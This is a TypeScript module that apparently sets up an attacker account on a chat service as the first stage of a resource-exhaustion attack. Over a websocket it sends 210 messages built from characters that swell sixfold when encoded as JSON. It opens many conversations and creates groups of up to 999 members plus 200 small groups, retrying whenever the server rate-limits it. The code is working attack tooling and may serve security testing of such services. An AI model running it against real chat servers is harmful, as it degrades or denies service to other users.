import { setTimeout as pause } from "node:timers/promises";
import { ask, frame, openSocket } from "./socket.ts";
import type { Target } from "./target.ts";

/** Of characters that take six bytes each in JSON. */
const longest = `x${"\u0001".repeat(3_998)}x`;

/** How many small groups the attacker is in. */
const smallGroups = 200;

/** Gives the attacker what an ordinary user gathers in some weeks: long messages, many conversations, groups. */
export async function prepare(
  { urls, token, peer }: Omit<Target, "groups">,
  conversations: number,
): Promise<Target["groups"]> {
  const socket = await openSocket(urls[0] ?? "", token);
  const call = async (path: string, input: object): Promise<unknown> => {
    for (;;) {
      const { error, result } = await ask(socket, frame("mutation", path, input));
      if (error === undefined) return (result as { readonly data: unknown }).data;
      const { code, retryAfterMs } = (error as { data: { code: string; retryAfterMs?: number } }).data;
      if (code !== "TOO_MANY_REQUESTS") throw new Error(`${path}: ${JSON.stringify(error)}`);
      await pause(retryAfterMs ?? 100);
    }
  };
  const send = (to: object, text: string): Promise<unknown> =>
    call("chat.send", { ...to, content: { text }, nonce: crypto.randomUUID() });
  const createGroup = async (others: number): Promise<string> => {
    const members = Array.from({ length: others }, (_, n) => `acquaintance-${n}`);
    const made = await call("chat.createGroup", { title: "Among friends", members });
    const { conversation } = made as { readonly conversation: { readonly id: string } };
    await send({ conversationId: conversation.id }, "Hello");
    return conversation.id;
  };
  const all = [
    ...Array.from({ length: 210 }, () => () => send({ to: peer }, longest)),
    ...Array.from({ length: conversations }, (_, n) => () => send({ to: `acquaintance-${n}` }, "Hello")),
  ];
  const one = async (): Promise<void> => {
    for (let next = all.pop(); next; next = all.pop()) await next();
  };
  await Promise.all(Array.from({ length: 4 }, one));
  const [large, huge] = [await createGroup(99), await createGroup(999)];
  const small: string[] = [];
  while (small.length < smallGroups) small.push(await createGroup(1));
  socket.terminate();
  return { large, huge, small };
}
